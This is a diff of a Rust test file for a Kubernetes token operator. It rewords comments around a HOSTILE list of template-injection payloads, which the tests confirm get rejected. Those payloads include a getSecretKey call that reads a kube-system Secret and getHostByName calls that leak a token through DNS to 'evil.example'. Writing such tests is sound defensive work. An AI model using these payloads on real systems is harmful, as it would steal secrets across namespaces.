@@ -1,5 +1,5 @@
-//! Templates are written by tenants (format `Template`) and by whoever may write service objects (operations), and are
-//! rendered in the operator's process, with its network, its files and its rights.
+//! Tenants write templates (format `Template`), and so do authors of service objects (operations). The operator renders them in its
+//! own process, with its network, its files and its rights.
 
 use artifact_token_operator::api::condition::ConditionType;
 use artifact_token_operator::api::reason::Reason;
@@ -11,12 +11,12 @@ use serde_json::{Value, json};
 
 use support::token_yaml;
 
-/// What reads, looks up, sends, includes or runs in some template language.
+/// Templates that read, look up, send, include or run something in some template language.
 const HOSTILE: [&str; 42] = [
     // CVE-2026-22822: reads a Secret of another namespace.
     r#"{{ getSecretKey "admin" "kube-system" "token" }}"#,
     r#"{{ getSecretKey("admin", "kube-system", "token") }}"#,
-    // CVE-2026-34984: sends what it knows as a question to a name server.
+    // CVE-2026-34984: sends secrets to a name server, as a query.
     r#"{{ getHostByName token }}"#,
     r#"{{ getHostByName(token ~ ".evil.example") }}"#,
     r#"{{ (token ~ ".evil.example") | getHostByName }}"#,
@@ -60,7 +60,7 @@ const HOSTILE: [&str; 42] = [
 ];
 
 /// CVE-2026-22822 and CVE-2026-34984 (External Secrets): functions of the template engine read Secrets of other namespaces,
-/// and looked names up that carried secrets. Here a template has its holes and five filters that encode.
+/// and looked up names that carried secrets. Here a template has only its variables and five filters that encode.
 #[test]
 fn a_tenants_template_can_do_nothing_but_encode() {
     for template in HOSTILE {
@@ -79,7 +79,7 @@ fn a_tenants_template_can_do_nothing_but_encode() {
     }
 }
 
-/// The same in every place of a service's operations.
+/// The same in every field of a service's operations.
 #[test]
 fn a_services_template_can_do_nothing_but_fill_its_holes() {
     for template in HOSTILE {
@@ -92,7 +92,11 @@ fn a_services_template_can_do_nothing_but_fill_its_holes() {
     }
     for place in ["path", "query", "headers", "json", "form", "bearer"] {
         let spec: TokenServiceSpec = serde_json::from_value(service(place, "{{ variables.harmless }}")).unwrap();
-        assert!(Declaration::check(&spec).is_ok(), "{place}: the places are right, {:?}", Declaration::check(&spec));
+        assert!(
+            Declaration::check(&spec).is_ok(),
+            "{place}: the field accepts a harmless template, {:?}",
+            Declaration::check(&spec)
+        );
     }
 }
 
@@ -125,7 +129,7 @@ fn service(place: &str, template: &str) -> Value {
     })
 }
 
-/// CVE-2026-22822, whole: the object is Stalled before a token is made, and no Secret is written.
+/// CVE-2026-22822 from end to end: the object is Stalled before a token is made, and the operator writes no Secret.
 #[tokio::test(flavor = "multi_thread")]
 async fn an_object_with_such_a_template_gets_no_token_and_no_secret() {
     let world = crate::quick("template").await;
@@ -142,5 +146,5 @@ async fn an_object_with_such_a_template_gets_no_token_and_no_secret() {
     assert!(world.secret("evil-secret").await.is_none());
     world.apply(&token_yaml("right")).await;
     world.until_ready("right").await;
-    assert_eq!(world.count().await, 1, "the other one made a token");
+    assert_eq!(world.count().await, 1, "only the other object has a token");
 }
